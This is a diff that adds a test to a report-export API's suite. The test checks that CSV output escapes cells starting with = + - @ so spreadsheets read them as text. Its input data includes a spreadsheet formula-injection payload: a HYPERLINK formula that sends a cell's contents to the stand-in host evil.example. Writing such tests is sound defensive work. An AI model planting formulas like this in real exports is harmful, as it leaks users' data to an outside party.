@@ -513,6 +513,16 @@ describe("downloads", () => {
     expect(rows.find((r) => r[0] === "Kiến nghị, đề xuất")).toBeDefined();
   });
 
+  it("CSV: a section written like a formula (=, +, -, @: a hyperlink, a dash list) stays text in a spreadsheet", async () => {
+    const sections = { results: '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")', strengths: "- Cán bộ nhiệt tình\n- Trả đúng hạn", limitations: "+1 hồ sơ trễ", proposals: "@SUM(1+1)" };
+    expect((await api("PUT", `/api/v1/reports/monthly/${A}/2026-05`, keys.a!, sections)).status).toBe(200);
+    const res = await api("GET", `/api/v1/reports/monthly?unit=${A}&month=2026-05&format=csv`, keys.a!);
+    const rows = parse(res.text, { bom: true, relax_column_count: true }) as string[][];
+    // Excel and LibreOffice read a cell starting with = + - @ as a formula (a dash list becomes #NAME?): a leading ' keeps it text.
+    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    for (const text of Object.values(sections)) expect(rows.flat()).toContain(`'${text}`);
+  });
+
   it("XLSX: the figures and sections on one sheet, a province's communes on another (parsed back with exceljs)", async () => {
     const res = await api("GET", `/api/v1/reports/monthly?unit=${PROVINCE}&month=${MONTH}&format=xlsx`, keys.province!);
     expect(res.status).toBe(200);
